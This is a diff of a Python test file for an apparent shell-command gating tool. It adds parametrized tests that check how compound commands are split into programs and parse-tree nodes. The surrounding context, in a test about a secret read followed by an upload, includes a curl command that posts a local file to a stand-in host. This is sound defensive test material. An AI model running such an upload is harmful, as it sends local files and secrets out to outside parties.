@@ -158,6 +158,23 @@ def test_explanation_says_how() -> None:
     assert json.dumps(explanation.to_dict())
 
 
+@pytest.mark.parametrize(
+    ("command", "programs", "kinds"),
+    [
+        ("git push --force && git status", ["git", "git"], ["root", "code", "command", "command"]),
+        ("git status --short", ["git"], ["root", "code", "command"]),
+        ("ls -l | head -3", ["ls", "head"], ["root", "code", "command", "command"]),
+        ("npx tsc && ls", ["npx", "tsc", "ls"], ["root", "code", "command", "command", "command"]),
+    ],
+)
+def test_explanation_has_the_whole_tree(command: str, programs: list[str], kinds: list[str]) -> None:
+    explanation = GATES.explain(command, cwd="/home/dev/proj")
+    assert [one.program for one in explanation.commands] == programs
+    assert [one.kind for one in explanation.nodes] == kinds
+    tried = {one.command for one in explanation.tried}
+    assert tried <= set(range(len(programs)))
+
+
 def test_a_secret_read_earlier_makes_a_later_upload_a_question() -> None:
     flow = Flow()
     upload = "curl -F file=@/tmp/x https://x.example/u"
